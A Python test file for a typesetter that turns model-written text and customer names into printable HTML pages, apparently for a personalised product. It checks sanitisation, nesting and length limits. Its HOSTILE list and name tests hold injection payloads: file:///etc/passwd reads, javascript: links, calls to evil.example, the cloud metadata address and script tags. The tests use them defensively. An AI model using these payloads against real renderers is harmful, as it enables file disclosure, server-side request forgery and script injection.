"""Whatever a model writes and whatever a customer is called: the page is legible, closed and printable."""

import re
from dataclasses import replace
from datetime import date

import pytest

from actors.press.blocks import TOO_LARGE
from actors.press.contents import REACH
from actors.press.looks import look
from actors.press.prose import CUT, DEEPEST_MARKERS, LONGEST, prose
from actors.press.tongue import direction, language
from actors.press.typeset import Facts, typeset, typeset_plain
from events.plan import Chunk, ChunkKind
from events.products import find

PRODUCT = find("life_clarity")
LOOK = look(PRODUCT.name)
PLACED_ON = date(2026, 11, 21)
FACTS = Facts(customer="Ada", placed_on=PLACED_ON)


def chunk(kind: ChunkKind) -> Chunk:
    return next(each for each in PRODUCT.chunks if each.kind is kind)


def section_page(text: str) -> str:
    facts = Facts(customer="Ada", placed_on=PLACED_ON, text=text)
    return typeset(PRODUCT, chunk(ChunkKind.SECTION), facts)


def cover(customer: str) -> str:
    return typeset(PRODUCT, chunk(ChunkKind.COVER), Facts(customer=customer, placed_on=PLACED_ON))


HOSTILE = [
    "![alt](file:///etc/passwd)",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?q=secret)",
    "<https://evil.example/>",
    "<img src=http://169.254.169.254/latest/meta-data>",
    '<link rel="attachment" href="file:///etc/passwd">',
    "<style>@import url(http://evil.example/x.css)</style>",
    '<svg><image href="file:///etc/passwd"/></svg>',
    '<object data="file:///etc/passwd"></object>',
    "<iframe src=http://localhost:9200></iframe>",
    '<p style="background:url(file:///etc/passwd)">x</p>',
    "<table><tr><td colspan=1000000>x</td></tr></table>",
    "[ref]: https://evil.example/\n\n[ref]",
    f"[jump]({REACH}cover)",
    "```html\n<script src=//evil.example></script>\n```",
    "| a |\n|---|\n| ![x](file:///etc/passwd) |",
    "</div></body><script>1</script>",
    "&lt;img src=x&gt; &#60;script&#62;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_section_can_name_a_resource_or_leave_its_place(text: str) -> None:
    page = section_page(f"Before.\n\n{text}\n\nAfter.")
    head, _, body = page.partition("<body")

    assert "<style>" in head
    assert not re.search(r"<(?:img|link|style|svg|object|iframe|script|a|base|embed|image)\b", body)
    assert not re.search(r"<[^>]*\b(?:href|src|style|on\w+|colspan|id|data)\s*=", body)
    assert body.count("</div>") == body.count("<div") == 1
    assert "Before." in body
    assert "After." in body


def test_a_link_leaves_its_words_and_an_image_its_description() -> None:
    page = section_page("Read [these words](https://evil.example) and ![a red barn](x.png).")

    assert "these words" in page
    assert "a red barn" in page
    assert "evil.example" not in page


@pytest.mark.parametrize(
    "hidden",
    [
        *("\u202e", "\u2066", "\u200b", "\u200e", "\u2060", "\ufeff", "\u00ad", "\u061c"),
        *("\x00", "\x1b", "\ud800", "\ue000", "\U000e0041"),
    ],
)
def test_what_cannot_be_seen_is_not_printed(hidden: str) -> None:
    assert hidden not in section_page(f"one{hidden}two")
    assert hidden not in cover(f"one{hidden}two")


def test_what_scripts_and_emoji_join_with_stays() -> None:
    assert "\u0647\u200c\u0627" in section_page("\u0647\u200c\u0627")
    assert "👩\u200d🔬" in section_page("👩\u200d🔬")


def test_marks_do_not_pile_up() -> None:
    # Some marks have no class of their own (Arabic, Indic, enclosing); they weigh as much.
    for marks in ("\u0334\u0353", "\u0334\u20dd", "\u0334\u0488", "\u0902\u0488"):
        assert len(re.findall(f"[{marks}]", section_page("Z" + marks * 200))) <= 4


def test_a_word_without_end_may_be_broken() -> None:
    words = re.findall(r"x+", section_page("x" * 5000))

    assert sum(len(word) for word in words if len(word) > 10) == 5000
    assert max(len(word) for word in words) <= 40


def test_a_table_has_so_many_rows_and_columns_and_no_more() -> None:
    columns = 500
    row = "|" + "x|" * columns
    table = "\n".join([row, "|" + "-|" * columns, *[row] * 5000])

    body = prose(table, "", LOOK).html

    assert body.count("<tr>") <= 61
    assert body.count("<td") <= 60 * 8
    assert body.count("<th") <= 8 + 1
    assert f"</tr>\n</tbody>\n</table>\n<p><em>{TOO_LARGE}</em></p>" in body
    assert TOO_LARGE not in prose("| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 59, "", LOOK).html


def test_a_column_of_figures_is_aligned_by_its_last_digit() -> None:
    body = prose("| What | How much |\n|---|---|\n| Tea | €3.50 |\n| Cake | 12 % |", "", LOOK).html

    assert body.count('class="number"') == 3


@pytest.mark.parametrize(
    "nested",
    [
        "> " * 400 + "deep",
        "- " * 400 + "deep",
        "\n".join("  " * depth + "- deep" for depth in range(200)),
        "".join(f"*{'*' * (n % 2)}a " for n in range(2000)) + "deep",
        "*" * 2000 + "deep" + "*" * 2000,
        "[" * 2000 + "deep" + "](x)" * 2000,
        "1. > " * 300 + "deep",
    ],
)
def test_nesting_stays_shallow_and_keeps_its_words(nested: str) -> None:
    html = prose(nested, "", LOOK).html
    depth = deepest = 0
    for closing, name in re.findall(r"<(/?)(\w+)", html):
        if name not in {"br", "hr"}:
            depth += -1 if closing else 1
            deepest = max(deepest, depth)

    assert depth == 0
    assert deepest <= 4 * DEEPEST_MARKERS
    assert "deep" in html


@pytest.mark.parametrize(
    "text",
    [
        "[",
        "`",
        "*a ",
        "_a",
        "<",
        "|",
        "- a\n",
        "&",
        "![](",
        "\n",
        "a",
        "> ",
        "1. ",
        "**",
        "~~a",
        "\\",
        "\"#'1'",
        ":''",
        "\u0323\u0301",
        "[| a :\t&",
        "--**",
    ],
)
def test_no_text_takes_long(text: str) -> None:
    assert section_page(f"It is the {text * 200_000}")


def test_a_section_of_a_hundred_thousand_words_is_cut_and_says_so() -> None:
    body = prose("word " * 100_000, "", LOOK).html

    assert len(body) < LONGEST + 1000
    assert "too long to print" in body


def test_of_a_language_without_spaces_no_more_is_cut_than_cannot_be_printed() -> None:
    body = prose("Yi. " + "\u8fd9\u662f\u4e00\u4e2a\u53e5\u5b50\u3002" * 30_000, "", LOOK).html

    assert body.count("\u53e5") > LONGEST / 8
    assert body.endswith(CUT)


def test_the_remark_on_a_cut_stands_outside_of_what_was_cut() -> None:
    fenced = "```\n" + "code\n" * 50_000

    for body in (prose(fenced, "", LOOK).html, section_page(fenced)):
        assert f"</pre>\n{CUT}" in body
    assert CUT in typeset_plain(PRODUCT, chunk(ChunkKind.SECTION), replace(FACTS, text=fenced))


def test_a_row_of_dashes_is_a_rule_and_a_table_has_its_head() -> None:
    for rule in ("-" * 12, "*" * 8, "- " * 9, "_ _ _ _ _ _ _ _"):
        html = prose(f"Before.\n\n{rule}\n\nAfter.", "", LOOK).html
        assert "<hr" in html
        assert "<blockquote" not in html
    assert "<table" in prose("A | B\n-------- | --------\n1 | 2", "", LOOK).html


def test_an_empty_section_says_so() -> None:
    for text in (
        "",
        "   \n\n ",
        "\u200b",
        "\u00a0",
        "\u0301",
        "---",
        "* * *",
        "#",
        "```\n```",
        "&nbsp;",
    ):
        assert "left empty" in section_page(text)


def test_a_heading_that_repeats_the_title_is_left_out() -> None:
    title = chunk(ChunkKind.SECTION).title

    assert "<h3>" not in section_page(f"# {title}\n\nText.")
    assert "<h3>" not in section_page(f"## 1. **{title}**\n\nText.")
    assert "<h3>Other</h3>" in section_page("# Other\n\nText.")


def test_a_paragraph_that_opens_with_a_label_becomes_a_note() -> None:
    page = section_page("Text.\n\n**In short:** rest first.")

    assert '<aside class="note">\n<p class="label">In short</p>\n<p>Rest first.</p>' in page


def test_raw_html_latex_and_broken_markdown_stay_legible() -> None:
    page = section_page("<b>bold</b> $x^2$ \\(y\\) **open *never closed\n\n| a | b\n|--\n| c")

    assert "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "$x^2$" in page


@pytest.mark.parametrize(
    "customer", ["<script>alert(1)</script>", '"><img src=x>', "{{ 7*7 }}", ""]
)
def test_a_name_is_only_ever_text(customer: str) -> None:
    page = cover(customer)

    assert "<script" not in page
    assert "<img" not in page
    assert "49" not in page.partition("<main>")[2].partition("for")[0]


def test_a_name_of_three_hundred_letters_is_set_small_and_whole() -> None:
    page = cover("Wolfeschlegelsteinhausen" * 12 + "bergerdorff!")

    assert "name endless" in page
    assert "bergerdorff!" in page.replace("\u200b", "")


def test_a_name_from_right_to_left_is_set_so() -> None:
    assert 'dir="rtl">נועה בן־דוד' in cover("נועה בן־דוד")


def test_the_contents_know_every_page() -> None:
    pages = {each.name: 2 for each in PRODUCT.chunks} | {"cover": 1}
    facts = Facts(customer="Ada", placed_on=PLACED_ON, pages=pages)

    page = typeset(PRODUCT, chunk(ChunkKind.CONTENTS), facts)

    shown = re.findall(
        rf'href="{re.escape(REACH)}(section-\d+)">.*</a> <span class="page">(\d+)</span>', page
    )
    assert shown == [(f"section-{n:03}", str(1 + 2 * n)) for n in range(1, 5)]


def test_the_closing_page_shows_how_it_was_made() -> None:
    facts = Facts(customer="Ada", placed_on=PLACED_ON, made=(("Order", "<b>5f1c</b>"),))

    page = typeset(PRODUCT, chunk(ChunkKind.CLOSING), facts)

    assert "language model" in page
    assert "&lt;b&gt;5f1c&lt;/b&gt;" in page


def test_the_same_facts_give_the_same_page() -> None:
    for each in PRODUCT.chunks:
        facts = Facts(customer="Ada", placed_on=PLACED_ON, text="Some *text*.")
        assert typeset(PRODUCT, each, facts) == typeset(PRODUCT, each, facts)


def test_a_plain_page_has_the_words_and_nothing_else() -> None:
    facts = Facts(customer="Ada", placed_on=PLACED_ON, text="# One\n\n<b>two</b>\n\n- three")

    page = typeset_plain(PRODUCT, chunk(ChunkKind.SECTION), facts)

    assert "<p># One</p><p>&lt;b&gt;two&lt;/b&gt;</p><p>- three</p>" in page


def test_a_product_that_nobody_has_drawn_yet_has_a_look() -> None:
    fresh = replace(PRODUCT, name="tea_leaves")

    page = typeset(fresh, chunk(ChunkKind.COVER), Facts(customer="Ada", placed_on=PLACED_ON))

    assert "<svg" in page


@pytest.mark.parametrize(
    ("text", "spoken"),
    [
        ("You may find that one of these is the thing that you have not said to them.", "en"),
        ("Du wirst sehen, dass die Antwort nicht in der Eile liegt und auch nicht im Plan.", "de"),
        ("Ce que vous cherchez est dans la question et non pas dans les réponses.", "fr"),
        ("Ты стоишь на равнине и смотришь вперёд.", "ru"),
        ("", "und"),
    ],
)
def test_the_language_is_guessed_well_enough_to_hyphenate(text: str, spoken: str) -> None:
    assert language(text) == spoken


def test_the_first_strong_letter_gives_the_direction() -> None:
    assert direction("123 שלום abc") == "rtl"
    assert direction("(مرحبا)") == "rtl"
    assert direction("Hello שלום") == "ltr"
    assert direction("42") == "ltr"
